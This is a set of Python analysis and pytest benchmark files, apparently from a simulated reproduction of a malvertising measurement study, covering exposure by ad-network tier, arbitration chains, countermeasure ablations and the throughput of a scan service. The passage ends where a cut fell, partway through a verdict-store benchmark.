    """Who got burned, by the reputation of the network they trusted."""

    by_tier: dict[str, TierExposure] = field(default_factory=dict)

    @property
    def total_exposed(self) -> int:
        return sum(t.publishers_exposed for t in self.by_tier.values())

    @property
    def major_tier_exposed(self) -> int:
        tier = self.by_tier.get(NetworkTier.MAJOR)
        return tier.publishers_exposed if tier else 0

    def render(self) -> str:
        lines = ["publisher exposure by primary-network tier (§4.3's implication):"]
        for tier in (NetworkTier.MAJOR, NetworkTier.MID, NetworkTier.SHADY):
            stats = self.by_tier.get(tier)
            if stats is None:
                continue
            lines.append(
                f"  {tier:<6}: {stats.publishers_exposed}/{stats.publishers_crawled} "
                f"publishers showed >=1 malvertisement ({stats.exposure_rate:.0%})"
            )
        lines.append("  -> trusting a reputable exchange does not make a site safe")
        return "\n".join(lines)


def analyze_exposure(results: StudyResults) -> ExposureReport:
    """Compute per-tier publisher exposure from the measured corpus."""
    world = results.world
    exposed_sites: set[str] = set()
    for record in results.malicious_records():
        exposed_sites.update(record.publisher_domains)
    report = ExposureReport()
    for publisher in world.publishers:
        if not publisher.serves_ads:
            continue
        tier = publisher.primary_network.tier
        stats = report.by_tier.setdefault(tier, TierExposure(tier))
        stats.publishers_crawled += 1
        if publisher.domain in exposed_sites:
            stats.publishers_exposed += 1
    return report
