"""Per-experiment analytics (§4 of the paper).

Each module consumes a :class:`~repro.core.results.StudyResults` and
regenerates one table/figure of the paper from the *observed* data (the
corpus, traffic logs and oracle verdicts) — never from the simulator's
ground truth:

* :mod:`repro.analysis.tables` — Table 1, incident classification counts.
* :mod:`repro.analysis.networks` — Figures 1 and 2, per-network ratios.
* :mod:`repro.analysis.clusters` — §4.2 top/bottom/other cluster shares.
* :mod:`repro.analysis.categories` — Figure 3, category mix.
* :mod:`repro.analysis.tlds` — Figure 4, TLD mix.
* :mod:`repro.analysis.arbitration` — Figure 5, chain-length distributions.
* :mod:`repro.analysis.sandbox` — §4.4, iframe sandbox audit.
"""

from repro.analysis.arbitration import ArbitrationAnalysis, analyze_arbitration
from repro.analysis.categories import categorize_malvertising_sites
from repro.analysis.clusters import ClusterShares, analyze_clusters
from repro.analysis.exposure import ExposureReport, analyze_exposure
from repro.analysis.networks import NetworkStats, analyze_networks
from repro.analysis.overlap import OverlapStats, analyze_overlap
from repro.analysis.sandbox import SandboxAudit, audit_sandbox_usage
from repro.analysis.tables import Table1, build_table1
from repro.analysis.tlds import tld_distribution
from repro.analysis.tracking import TrackingReport, measure_tracking, referer_map_from_har

__all__ = [
    "ArbitrationAnalysis",
    "ClusterShares",
    "ExposureReport",
    "NetworkStats",
    "OverlapStats",
    "SandboxAudit",
    "Table1",
    "TrackingReport",
    "analyze_arbitration",
    "analyze_clusters",
    "analyze_exposure",
    "analyze_networks",
    "analyze_overlap",
    "audit_sandbox_usage",
    "build_table1",
    "categorize_malvertising_sites",
    "measure_tracking",
    "referer_map_from_har",
    "tld_distribution",
]
