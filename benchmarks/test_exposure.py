"""Benchmark: contribution #3 — arbitration makes every publisher a
potential malvertising outlet.

The paper: "due to the arbitration process, every website that serves
advertisements and that does not have an exclusive agreement with the
advertiser is a potential publisher of malicious advertisements."

The check: publishers whose *primary* network is a well-filtered major
exchange still end up displaying malvertising, delivered through resale
chains the major initiated.
"""

from repro.analysis.exposure import analyze_exposure


def test_publisher_exposure(bench_results, benchmark):
    report = benchmark(analyze_exposure, bench_results)
    print("\n" + report.render())

    assert report.total_exposed > 0
    # Sites that trusted a reputable major exchange were exposed anyway.
    assert report.major_tier_exposed > 0
    major = report.by_tier.get("major")
    assert major is not None and major.publishers_crawled > 0
    # A substantial share of major-primary publishers got burned.
    assert major.exposure_rate > 0.2

    # All such incidents arrived via resale (chain length > 1) — the
    # arbitration mechanism, not the major's own inventory, is the vector.
    world = bench_results.world
    major_sites = {p.domain for p in world.publishers
                   if p.serves_ads and p.primary_network.tier == "major"}
    direct = resold = 0
    for record in bench_results.malicious_records():
        for impression in record.impressions:
            if impression.site_domain not in major_sites:
                continue
            if impression.chain_length > 1:
                resold += 1
            else:
                direct += 1
    print(f"malicious impressions on major-primary sites: {resold} via "
          f"resale, {direct} served directly by the major")
    assert resold > direct * 3
