"""Benchmark: longitudinal takedown dynamics.

Not a paper figure, but the mechanism behind one of its oracle signals:
the honeyclient keeps finding advertisements that redirect into
non-existent domains (a "Suspicious redirections" trigger).  Running the
crawl with live takedown/rotation dynamics shows where those dead ends
come from: flagged domains get removed day by day, campaigns rotate to
fresh domains, and the blacklists lag behind the rotation.
"""

from repro.analysis.temporal import summarize_run
from repro.core.longitudinal import LongitudinalConfig, LongitudinalStudy
from repro.datasets.world import WorldParams


def test_takedown_dynamics(benchmark):
    config = LongitudinalConfig(
        seed=2014,
        days=8,
        refreshes_per_visit=2,
        takedown_probability=0.8,
        rotation_probability=0.8,
        listing_lag_days=2,
        world_params=WorldParams(n_top_sites=15, n_bottom_sites=15,
                                 n_other_sites=15, n_feed_sites=6),
    )

    def run():
        return LongitudinalStudy(config).run()

    study = benchmark.pedantic(run, iterations=1, rounds=1)
    summary = summarize_run(study.day_stats, study.authority)
    print("\n" + summary.render())

    # Takedowns and rotations both happen.
    assert summary.total_takedowns > 3
    assert summary.total_rotations > 0
    # Rotation means repeated takedowns of the same campaign over time.
    lifetimes = study.authority.campaign_lifetimes()
    assert any(days > 0 for days in lifetimes.values())
    # The blacklists eventually list rotated domains (the catch-up log).
    assert study.authority.listings
    # The crawl itself never breaks: publisher pages keep loading.
    assert study.crawl_stats.pages_failed == 0
    # Dead infrastructure surfaces as NX events in the crawl traffic.
    assert summary.nx_events_total > 0
