"""Service throughput: ads/sec and cache hit rate at 1/2/4 workers.

Replays the shared bench-scale corpus through :class:`ScanService` cold
at each pool size, then warm.  Two claims are asserted:

* adding workers does not *lose* throughput (oracle scans are pure
  Python, so the GIL caps the upside of threads — the pool must still
  never be slower than serial beyond a small coordination overhead);
* a cache-warm replay beats any cold replay outright and performs zero
  oracle scans.
"""

from __future__ import annotations

import time

import pytest

from repro.service import ScanService, ServiceConfig

from conftest import BENCH_PARAMS, BENCH_SEED

# Thread coordination overhead allowed before "not slower" counts as failed.
MULTI_WORKER_TOLERANCE = 1.5

WARM_SPEEDUP_FLOOR = 5.0


def service_config(n_workers: int) -> ServiceConfig:
    return ServiceConfig(seed=BENCH_SEED, n_workers=n_workers,
                         world_params=BENCH_PARAMS,
                         batch_max_size=16, batch_max_delay=0.01)


@pytest.fixture(scope="module")
def corpus(bench_results):
    return bench_results.corpus


def replay(service: ScanService, corpus) -> float:
    started = time.perf_counter()
    service.submit_corpus(corpus)
    service.drain()
    return time.perf_counter() - started


class TestServiceThroughput:
    def test_throughput_by_worker_count_and_cache_warmth(self, corpus):
        cold_times: dict[int, float] = {}
        rows = []
        warm_time = None
        for n_workers in (1, 2, 4):
            with ScanService(service_config(n_workers)) as service:
                cold = replay(service, corpus)
                cold_times[n_workers] = cold
                stats_cold = service.stats()
                assert stats_cold["counters"]["scanned"] == corpus.unique_ads

                if n_workers == 4:
                    warm_time = replay(service, corpus)
                    stats = service.stats()
                    # The warm pass re-submitted everything, scanned nothing.
                    assert stats["counters"]["scanned"] == corpus.unique_ads
                    assert stats["counters"]["cache_hits"] == corpus.unique_ads
                rows.append((n_workers, cold, corpus.unique_ads / cold))

        print(f"\nservice throughput ({corpus.unique_ads} unique ads, "
              f"{corpus.total_impressions} impressions)")
        for n_workers, elapsed, rate in rows:
            print(f"  {n_workers} worker(s): {elapsed:6.2f}s cold "
                  f"({rate:7.0f} ads/s)")
        assert warm_time is not None
        print(f"  4 worker(s): {warm_time:6.2f}s warm "
              f"({corpus.unique_ads / warm_time:7.0f} ads/s, zero scans)")

        # Multi-worker must not be slower than single-worker (+ tolerance).
        for n_workers in (2, 4):
            assert cold_times[n_workers] <= \
                cold_times[1] * MULTI_WORKER_TOLERANCE, (
                    f"{n_workers} workers took {cold_times[n_workers]:.2f}s "
                    f"vs {cold_times[1]:.2f}s serial")
        # Cache-warm replay beats every cold replay by a wide margin.
        assert warm_time * WARM_SPEEDUP_FLOOR < min(cold_times.values())

    def test_cache_hit_rate_reported(self, corpus):
        with ScanService(service_config(2)) as service:
            replay(service, corpus)
            replay(service, corpus)
            stats = service.stats()
        assert stats["cache"]["hit_rate"] == pytest.approx(0.5)
        assert stats["histograms"]["batch_size"]["mean"] >= 1.0
