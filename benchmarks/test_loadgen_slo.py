"""Load-generator SLO benchmark: burst traffic against an elastic pool.

One deterministic burst profile is replayed open-loop against the scan
service twice — a fixed single-worker pool and an autoscaled 1..4 pool —
and a machine-readable ``LOADGEN_SLO_JSON`` report lands on stdout with
offered vs served throughput, scan-latency percentiles, pool-size
excursion, and the ingest queue high-water mark.

What is asserted where:

* **everywhere** (including ``BENCH_SMOKE=1``): the autoscaled run's
  verdict fingerprints are bit-identical to the fixed pool's — scaling
  decisions are invisible in the output — and the same seeded profile
  regenerates the same arrival sequence and offers the same request
  counts.
* **≥4 cores, full mode**: the SLO floors apply — the autoscaled pool
  keeps burst p99 scan latency under :data:`P99_FLOOR_SECONDS`, actually
  grows past one worker during the burst, and drains back down to
  ``min_workers`` across the idle tail.
* **single-core, full mode**: determinism plus bounded overhead only —
  the autoscaled run may not take materially longer than the fixed run
  (there are no spare cores for the floors to be meaningful).
"""

from __future__ import annotations

import json
import os
import time

from repro.core.persistence import verdict_fingerprint
from repro.datasets.world import WorldParams
from repro.loadgen import LoadDriver, build_population, burst_profile, \
    generate_schedule
from repro.service import AutoscalerConfig, ScanService, ServiceConfig

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

AVAILABLE_CORES = len(os.sched_getaffinity(0))

# Burst p99 scan latency the autoscaled pool must hold when the cores
# exist to absorb the burst (submission -> verdict, wall seconds).
P99_FLOOR_SECONDS = 0.75

# Single-core bound: autoscaling machinery may not cost more than this
# over the fixed pool on the same paced workload.
OVERHEAD_TOLERANCE = 1.5

if SMOKE:
    PARAMS = WorldParams(n_top_sites=4, n_bottom_sites=4, n_other_sites=4,
                         n_feed_sites=2,
                         n_benign_campaigns=10, n_malicious_campaigns=4,
                         variants_per_benign=2, variants_per_malicious=1)
    PROFILE = burst_profile()
    TIME_SCALE = 20.0
else:
    PARAMS = WorldParams(n_top_sites=10, n_bottom_sites=10, n_other_sites=10,
                         n_feed_sites=4,
                         n_benign_campaigns=30, n_malicious_campaigns=8,
                         variants_per_benign=2, variants_per_malicious=2)
    PROFILE = burst_profile(base_rate=40.0, burst_rate=400.0,
                            warm=2.0, burst=3.0, cooldown=2.0, idle=3.0)
    TIME_SCALE = 4.0

SCALER = AutoscalerConfig(min_workers=1, max_workers=4, interval=0.01,
                          scale_up_depth_per_worker=2.0,
                          up_cooldown=0.02, down_cooldown=0.1, idle_evals=3)


def emit(name: str, payload: dict) -> None:
    print(f"\n{name} {json.dumps(payload, sort_keys=True)}")


def service_config(**overrides) -> ServiceConfig:
    defaults = dict(seed=BENCH_SEED, n_workers=1, world_params=PARAMS,
                    batch_max_size=4, batch_max_delay=0.005,
                    queue_capacity=4096)
    defaults.update(overrides)
    return ServiceConfig(**defaults)


def run_profile(population, schedule, **overrides) -> dict:
    """One open-loop replay; returns fingerprints + the numbers we report."""
    tickets: list = []
    config = service_config(**overrides)
    started = time.perf_counter()
    with ScanService(config) as service:
        driver = LoadDriver(schedule, population, time_scale=TIME_SCALE)
        report = driver.run(service, tickets_out=tickets)
        service.drain()
        fingerprints = {t.ad_id: verdict_fingerprint(t.result(timeout=120))
                        for t in tickets}
        # Let the autoscaler walk back to min across the idle tail.
        scaled_down = None
        if service.autoscaler is not None:
            deadline = time.monotonic() + 10.0
            while service.pool.size > config.autoscaler_config().min_workers \
                    and time.monotonic() < deadline:
                time.sleep(0.01)
            scaled_down = service.pool.size
        stats = service.stats()
    elapsed = time.perf_counter() - started
    scan = stats["histograms"]["scan_latency"]
    out = {
        "fingerprints": fingerprints,
        "report": report,
        "elapsed": elapsed,
        "offered_per_sec": round(report.offered / report.wall_seconds, 1),
        "served_per_sec": round(len(fingerprints) / elapsed, 1),
        "scan_latency": {"p50": scan["p50"], "p99": scan["p99"],
                         "count": scan["count"]},
        "queue_high_water": stats["queue"]["high_water"],
        "pool": {"peak": stats["pool"]["peak_size"],
                 "min": stats["pool"]["min_size"],
                 "final": scaled_down},
        "autoscaler": (stats.get("autoscaler", {}) or {}),
    }
    return out


class TestLoadgenSLO:
    def test_burst_slo_and_autoscale_determinism(self):
        population = build_population(BENCH_SEED, PARAMS)
        schedule = generate_schedule(PROFILE, BENCH_SEED,
                                     n_ranks=len(population))

        fixed = run_profile(population, schedule)
        scaled = run_profile(population, schedule, autoscaler=SCALER)

        # Scaling decisions must be invisible in the verdicts —
        # asserted on any hardware, smoke or full.
        assert scaled["fingerprints"] == fixed["fingerprints"]
        assert scaled["report"].offered == len(schedule)
        assert scaled["report"].submitted == scaled["report"].offered

        floors_enforced = not SMOKE and AVAILABLE_CORES >= 4
        report = {
            "workload": {
                "profile": PROFILE.name,
                "arrivals": len(schedule),
                "creatives": len(population),
                "model_seconds": PROFILE.duration,
                "time_scale": TIME_SCALE,
                "cores": AVAILABLE_CORES,
                "smoke": SMOKE,
            },
            "offered_per_sec": scaled["offered_per_sec"],
            "served_per_sec": scaled["served_per_sec"],
            "scan_latency": scaled["scan_latency"],
            "queue_high_water": scaled["queue_high_water"],
            "pool": scaled["pool"],
            "scale_ups": scaled["autoscaler"].get("scale_ups"),
            "scale_downs": scaled["autoscaler"].get("scale_downs"),
            "fixed_baseline": {
                "elapsed": round(fixed["elapsed"], 3),
                "served_per_sec": fixed["served_per_sec"],
                "scan_latency_p99": fixed["scan_latency"]["p99"],
                "queue_high_water": fixed["queue_high_water"],
            },
            "floor": {
                "p99_seconds": P99_FLOOR_SECONDS,
                "overhead_tolerance": OVERHEAD_TOLERANCE,
                "enforced": floors_enforced,
            },
        }
        emit("LOADGEN_SLO_JSON", report)

        if SMOKE:
            return
        if floors_enforced:
            assert scaled["scan_latency"]["p99"] is not None
            assert scaled["scan_latency"]["p99"] <= P99_FLOOR_SECONDS, (
                f"burst p99 {scaled['scan_latency']['p99']:.3f}s over the "
                f"{P99_FLOOR_SECONDS}s floor with {AVAILABLE_CORES} cores")
            assert scaled["pool"]["peak"] >= 2, \
                "burst never scaled the pool past one worker"
            assert scaled["pool"]["final"] == SCALER.min_workers, (
                f"pool sat at {scaled['pool']['final']} workers across "
                f"the idle tail instead of draining to "
                f"{SCALER.min_workers}")
        else:
            # Single-core: determinism (asserted above) + bounded overhead.
            assert scaled["elapsed"] <= fixed["elapsed"] * OVERHEAD_TOLERANCE, (
                f"autoscaled run took {scaled['elapsed']:.2f}s vs "
                f"{fixed['elapsed']:.2f}s fixed "
                f"(tolerance {OVERHEAD_TOLERANCE}x)")

    def test_replay_offers_identical_request_counts(self):
        population = build_population(BENCH_SEED, PARAMS)
        first = generate_schedule(PROFILE, BENCH_SEED,
                                  n_ranks=len(population))
        second = generate_schedule(PROFILE, BENCH_SEED,
                                   n_ranks=len(population))
        assert first.fingerprint() == second.fingerprint()
        assert [a.key() for a in first] == [a.key() for a in second]

        def offered_counts():
            with ScanService(service_config()) as service:
                driver = LoadDriver(first, population,
                                    time_scale=TIME_SCALE * 4)
                report = driver.run(service)
                service.drain()
            return report.offered, report.submitted + report.shed \
                + report.degraded

        assert offered_counts() == offered_counts() == \
            (len(first), len(first))
