"""Benchmark: Figure 3 — categories of websites serving malvertisements.

Paper: entertainment and news together make up roughly one third of the
malvertising-serving sites; adult content ranks third (contradicting
earlier work tying adult content to elevated maliciousness).
"""

from repro.analysis.categories import categorize_malvertising_sites


def test_fig3_categories(bench_results, benchmark):
    breakdown = benchmark(categorize_malvertising_sites, bench_results)
    print("\n" + breakdown.render())

    shares = breakdown.shares()
    assert breakdown.total > 10, "enough malvertising sites for a category mix"
    # Entertainment + news constitute a large block (paper: ~1/3).
    ent_news = shares.get("entertainment", 0.0) + shares.get("news", 0.0)
    assert ent_news > 0.18
    # Adult is present but not dominant.
    ranked = [category for category, _ in breakdown.ranked()]
    if "adult" in ranked:
        assert ranked.index("adult") <= 6
        assert shares["adult"] < ent_news
