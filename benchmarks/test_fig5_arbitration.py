"""Benchmark: Figure 5 — ad networks involved in arbitration.

Paper: both benign and malicious ads are sometimes served directly by the
initial network; benign chains reach ~15 auctions with a decreasing trend;
malicious chains reach ~30, still decreasing in absolute numbers but with a
frequency bump in the middle; chains longer than 15 auctions are ≈2% of
malvertisements; late auctions happen only among malvertising-implicated
(shady) networks; the same networks re-buy the same slot repeatedly.
"""

from repro.analysis.arbitration import analyze_arbitration


def test_fig5_arbitration(bench_results, benchmark):
    analysis = benchmark(analyze_arbitration, bench_results)
    print("\n" + analysis.render())

    # Direct serving exists for both classes (chain length 1).
    assert analysis.benign_lengths.get(1, 0) > 0
    assert analysis.malicious_lengths.get(1, 0) > 0
    # Benign chains top out far shorter than malicious ones.
    assert analysis.max_benign_length <= 22
    assert analysis.max_malicious_length > analysis.max_benign_length
    assert analysis.max_malicious_length >= 18
    # Long (>15) chains are a small share of malvertising (paper: ~2%),
    # and essentially absent from benign traffic.
    long_malicious = analysis.fraction_longer_than(15, malicious=True)
    assert 0.002 < long_malicious < 0.15
    assert analysis.fraction_longer_than(15, malicious=False) < 0.01
    # Malicious chains are longer on average (the mid-chain bump).
    assert analysis.mean_length(True) > analysis.mean_length(False) + 1.0
    # Repeat participation: networks re-buy the same slot.
    assert analysis.repeat_participation_impressions > 0
    # Late auctions are dominated by shady networks.
    late = analysis.late_hop_networks
    assert late, "deep chains must exist"
    assert late.get("shady", 0) > late.get("major", 0)
    assert late.get("shady", 0) >= 0.8 * sum(late.values())
