"""Benchmark: the DESIGN.md design-choice ablations.

Two counterfactual worlds isolate the mechanisms the paper blames:

* **uniform top-tier filtering** — if every network screened like the
  majors, malvertising would collapse but not vanish (evasive campaigns
  survive review by design);
* **no arbitration** — without resale, sites that delegated to reputable
  exchanges are (almost) never burned: arbitration is the reach-granting
  mechanism of §4.3.
"""

import pytest

from repro.adnet.ablations import apply_uniform_filtering, forbid_resale
from repro.analysis.exposure import analyze_exposure
from repro.core.study import Study, StudyConfig, run_study
from repro.datasets.world import WorldParams, build_world

ABLATION_PARAMS = WorldParams(n_top_sites=25, n_bottom_sites=25,
                              n_other_sites=25, n_feed_sites=8)
ABLATION_CONFIG = StudyConfig(seed=303, days=4, refreshes_per_visit=4,
                              world_params=ABLATION_PARAMS)


@pytest.fixture(scope="module")
def ablation_baseline():
    return run_study(ABLATION_CONFIG)


def test_uniform_filtering_ablation(ablation_baseline, benchmark):
    def run_filtered():
        world = build_world(ABLATION_CONFIG.seed, ABLATION_PARAMS)
        survivors = apply_uniform_filtering(world, quality=0.99)
        return survivors, Study(ABLATION_CONFIG, world=world).run()

    survivors, filtered = benchmark.pedantic(run_filtered, iterations=1, rounds=1)
    base = ablation_baseline.n_incidents
    print(f"\nuniform top-tier filters: incidents {base} -> "
          f"{filtered.n_incidents}; {survivors} malicious campaigns still "
          "accepted somewhere")
    assert base > 0
    assert filtered.n_incidents < base * 0.7
    # Filtering alone does not finish the job: review-resistant campaigns
    # survive (the paper: "there exists a possibility that the
    # cyber-criminals can successfully evade them").
    assert survivors > 0


def test_no_resale_ablation(ablation_baseline, benchmark):
    def run_no_resale():
        world = build_world(ABLATION_CONFIG.seed, ABLATION_PARAMS)
        forbid_resale(world)
        return Study(ABLATION_CONFIG, world=world).run()

    no_resale = benchmark.pedantic(run_no_resale, iterations=1, rounds=1)
    lengths = {i.chain_length for i in no_resale.corpus.impressions()}
    assert lengths <= {1}

    def major_malicious_rate(results):
        majors = {p.domain for p in results.world.publishers
                  if p.serves_ads and p.primary_network.tier == "major"}
        total = malicious = 0
        malicious_ids = {r.ad_id for r in results.malicious_records()}
        for record, _ in results.iter_with_verdicts():
            for impression in record.impressions:
                if impression.site_domain not in majors:
                    continue
                total += 1
                malicious += record.ad_id in malicious_ids
        return malicious / total if total else 0.0

    base_rate = major_malicious_rate(ablation_baseline)
    ablated_rate = major_malicious_rate(no_resale)
    print(f"\nno-resale ablation: malicious impression share on "
          f"major-primary sites {base_rate:.2%} -> {ablated_rate:.2%}")
    # Arbitration is the reach mechanism: without it, a site that
    # delegated to a major sees a small fraction of the malvertising (what
    # remains comes from the few review-evading campaigns in the major's
    # own inventory).
    assert ablated_rate < base_rate * 0.6

    base_exposure = analyze_exposure(ablation_baseline)
    ablated_exposure = analyze_exposure(no_resale)
    assert ablated_exposure.major_tier_exposed <= base_exposure.major_tier_exposed
