"""Benchmark: the combined oracle vs a redirect-chain-only baseline.

The paper's methodology argues for a multi-component oracle (honeyclient +
blacklists + AV consensus) over the prior redirect-properties detectors
("Shady Paths", Mekky et al., MADTRACER).  This bench fits that baseline on
the bench corpus and measures the gap: traffic shape alone leaves a
substantial fraction of oracle-confirmed incidents undetected — exactly the
content-identified threats (blacklisted scams with short chains, deceptive
downloads) a chain-only view cannot see.
"""

from repro.core.incidents import IncidentType
from repro.oracles.redirect_baseline import RedirectChainBaseline, compare_to_oracle


def test_chain_baseline_vs_combined_oracle(bench_results, benchmark):
    records = bench_results.corpus.records()
    labels = [bench_results.verdicts[r.ad_id].is_malicious for r in records]
    baseline = RedirectChainBaseline().fit_records(records, labels)

    comparison = benchmark(compare_to_oracle, bench_results, baseline)
    print("\n" + comparison.render())

    assert comparison.oracle_incidents > 0
    # The baseline finds a meaningful chunk from traffic shape alone...
    assert comparison.baseline_recall > 0.25
    # ...but cannot match the combined oracle even when trained in-sample.
    assert comparison.baseline_recall < 0.8

    # The misses concentrate where chains are unremarkable: content-level
    # threats served through short, ordinary-looking chains.
    short_chain_misses = 0
    for record, verdict in bench_results.iter_with_verdicts():
        if verdict.incident_type != IncidentType.BLACKLISTS:
            continue
        for impression in record.impressions:
            if impression.chain_length <= 3 and \
                    not baseline.predict_chain(impression.chain_domains):
                short_chain_misses += 1
    print(f"short-chain blacklist-incident impressions invisible to the "
          f"baseline: {short_chain_misses}")
    assert short_chain_misses > 50
