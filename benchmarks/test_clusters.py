"""Benchmark: §4.2 cluster shares.

Paper: the top-10k cluster serves 82.3% of malvertisements / 76.6% of all
ads; bottom-10k 6.2% / 11.6%; the rest 11.5% / 11.8%.  The conclusion —
miscreants chase impressions, so the malicious split roughly tracks the
volume split, with mild enrichment at the top.
"""

from repro.analysis.clusters import BOTTOM, OTHER, TOP, analyze_clusters


def test_cluster_shares(bench_results, benchmark):
    shares = benchmark(analyze_clusters, bench_results)
    print("\n" + shares.render())

    # Top cluster dominates both distributions (paper: 82.3% and 76.6%).
    assert shares.malicious_share(TOP) > 0.55
    assert shares.total_share(TOP) > 0.55
    # Bottom and other clusters are minor in both.
    assert shares.total_share(BOTTOM) < 0.30
    assert shares.total_share(OTHER) < 0.30
    # Malicious share roughly tracks volume share per cluster (the paper's
    # central claim for this experiment).
    for cluster in (TOP, BOTTOM, OTHER):
        assert abs(shares.malicious_share(cluster) - shares.total_share(cluster)) < 0.20
    # Mild enrichment at the top (82.3% malicious vs 76.6% volume).
    assert shares.malicious_share(TOP) >= shares.total_share(TOP) - 0.05
