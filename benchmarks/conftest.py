"""Shared bench-scale study run.

All figure/table benchmarks reproduce their result from ONE full-pipeline
run at "bench scale" (a few thousand page visits, tens of thousands of ad
impressions) — the same structure as the paper's three-month crawl, scaled
to laptop minutes.  The fixture is session-scoped so the crawl+classify
cost is paid once.
"""

from __future__ import annotations

import pytest

from repro.core.study import StudyConfig, run_study
from repro.datasets.world import WorldParams

BENCH_SEED = 2014

BENCH_PARAMS = WorldParams(
    n_top_sites=60,
    n_bottom_sites=60,
    n_other_sites=60,
    n_feed_sites=15,
)

BENCH_CONFIG = StudyConfig(
    seed=BENCH_SEED,
    days=8,
    refreshes_per_visit=5,
    world_params=BENCH_PARAMS,
)


@pytest.fixture(scope="session")
def bench_results():
    """The full measured study at bench scale."""
    return run_study(BENCH_CONFIG)
