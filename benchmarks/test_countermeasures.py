"""Benchmark: §5 countermeasure ablations.

These what-if experiments quantify the paper's proposed defences on the
same simulated ecosystem the baseline results were measured on:

* a shared rejected-creative blacklist across ad networks (§5.1);
* arbitration penalties for networks caught serving malvertisements (§5.1);
* client-side ad blocking and its revenue cost (§5.2);
* a topology-aware ad-path browser defence (§5.2, after Li et al.).
"""

import pytest

from repro.analysis.networks import analyze_networks
from repro.core.study import Study, StudyConfig, run_study
from repro.countermeasures.adblock import simulate_adblock
from repro.countermeasures.browser_defense import AdPathDefense
from repro.countermeasures.penalties import PenaltyPolicy, apply_penalties
from repro.countermeasures.shared_blacklist import apply_shared_blacklist
from repro.datasets.world import WorldParams, build_world
from repro.filterlists.matcher import FilterEngine

ABLATION_PARAMS = WorldParams(n_top_sites=25, n_bottom_sites=25,
                              n_other_sites=25, n_feed_sites=8)
ABLATION_CONFIG = StudyConfig(seed=77, days=4, refreshes_per_visit=4,
                              world_params=ABLATION_PARAMS)


@pytest.fixture(scope="module")
def ablation_baseline():
    return run_study(ABLATION_CONFIG)


def _rerun_with_shared_blacklist(participation):
    world = build_world(ABLATION_CONFIG.seed, ABLATION_PARAMS)
    apply_shared_blacklist(world.networks, world.campaigns,
                           participation=participation)
    return Study(ABLATION_CONFIG, world=world).run()


def test_shared_blacklist_ablation(ablation_baseline, benchmark):
    defended = benchmark.pedantic(_rerun_with_shared_blacklist, args=(1.0,),
                                  iterations=1, rounds=1)
    base = ablation_baseline.n_incidents
    after = defended.n_incidents
    print(f"\nshared blacklist: incidents {base} -> {after} "
          f"({1 - after / base:.0%} reduction)" if base else "no baseline incidents")
    assert base > 0
    assert after < base  # sharing rejections must help
    assert after <= base * 0.8


def test_penalties_ablation(ablation_baseline, benchmark):
    world = build_world(ABLATION_CONFIG.seed, ABLATION_PARAMS)
    analysis = analyze_networks(ablation_baseline)

    def run_penalized():
        outcome = apply_penalties(world.networks, analysis,
                                  PenaltyPolicy(max_malicious_ratio=0.10))
        return outcome, Study(ABLATION_CONFIG, world=world).run()

    outcome, defended = benchmark.pedantic(run_penalized, iterations=1, rounds=1)
    base_imps = sum(1 for r in ablation_baseline.malicious_records()
                    for _ in r.impressions)
    after_imps = sum(1 for r in defended.malicious_records()
                     for _ in r.impressions)
    print(f"\npenalties: banned {len(outcome.banned_networks)} networks, "
          f"malicious impressions {base_imps} -> {after_imps}")
    assert outcome.banned_networks
    # Cutting offenders out of arbitration starves deep-chain malvertising.
    assert after_imps < base_imps


def test_adblock_ablation(ablation_baseline, benchmark):
    engine = FilterEngine.from_text(ablation_baseline.world.easylist_text)
    outcome = benchmark(simulate_adblock, ablation_baseline, engine)
    print("\n" + outcome.render())
    assert outcome.malicious_exposure_reduction > 0.9
    # ... but the domino effect: nearly all ad revenue suppressed too.
    assert outcome.revenue_loss > 0.9


def test_ad_path_defense_ablation(ablation_baseline, benchmark):
    defense = AdPathDefense.train_from_results(ablation_baseline)
    evaluation = benchmark(defense.evaluate, ablation_baseline)
    print("\n" + evaluation.render())
    assert evaluation.detection_rate > 0.6
    assert evaluation.false_alarm_rate < 0.35


def test_blacklist_threshold_ablation(ablation_baseline, benchmark):
    """DESIGN.md ablation: the paper's >5-list threshold vs naive any-list.

    Dropping the threshold to 'any list' floods the blacklist oracle with
    false positives (benign domains sit on a couple of sloppy feeds).
    """
    from repro.oracles.blacklists import BlacklistTracker

    world = ablation_baseline.world
    strict = BlacklistTracker(world.blacklists, threshold=5)
    naive = BlacklistTracker(world.blacklists, threshold=0)
    benign_domains = [c.landing_domain for c in world.campaigns
                      if not c.is_malicious]

    def count_flagged(tracker):
        return sum(1 for d in benign_domains if tracker.is_flagged(d))

    naive_fps = benchmark(count_flagged, naive)
    strict_fps = count_flagged(strict)
    print(f"\nblacklist threshold ablation: benign domains flagged — "
          f"any-list {naive_fps}, >5 lists {strict_fps}")
    assert strict_fps == 0
    assert naive_fps > 0
