"""Benchmark: §4.4 — the secure-environment (iframe sandbox) audit.

Paper: "none of the websites that we crawled utilized this attribute to
protect its users."
"""

from repro.analysis.sandbox import audit_sandbox_usage


def test_sandbox_audit(bench_results, benchmark):
    audit = benchmark(audit_sandbox_usage, bench_results)
    print("\n" + audit.render())

    assert audit.sites_serving_ads > 0
    assert audit.total_ad_iframes > 0
    # Zero adoption, exactly as the paper observed.
    assert audit.sites_using_sandbox == 0
    assert audit.sandboxed_ad_iframes == 0
    assert audit.adoption_rate == 0.0
