"""Verdict-store persistence: warm-start scan skips and bloom-front I/O.

One benchmark, emitting ``STORE_PERSISTENCE_JSON`` on stdout, measuring
the two store claims that matter operationally:

* **warm start** — a store-backed service that crawled once, shut down
  cleanly and restarted must serve (almost) every repeat creative from
  disk: the warm run's oracle-scan count must be at most 5% of the cold
  run's (in practice it is exactly zero — the corpus is deterministic).
* **bloom front** — probing creatives the store has *never* seen must
  answer from the in-memory bloom filter alone: zero segment reads, as
  counted by the store's own I/O counters, at a probe rate far beyond
  what segment I/O could sustain.

Set ``BENCH_SMOKE=1`` (the CI store-smoke job does) to shrink the
workload to seconds; every correctness assertion still runs.
"""

from __future__ import annotations

import hashlib
import json
import os
import time

from repro.core.study import Study, StudyConfig
from repro.datasets.world import WorldParams
from repro.service import ScanService, ServiceConfig, stream_crawl
from repro.store import StoreConfig, VerdictStore

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

if SMOKE:
    PARAMS = WorldParams(n_top_sites=8, n_bottom_sites=8,
                         n_other_sites=8, n_feed_sites=2,
                         n_benign_campaigns=10, n_malicious_campaigns=4,
                         variants_per_benign=2, variants_per_malicious=1)
    CONFIG = StudyConfig(seed=BENCH_SEED, days=1, refreshes_per_visit=2,
                         world_params=PARAMS)
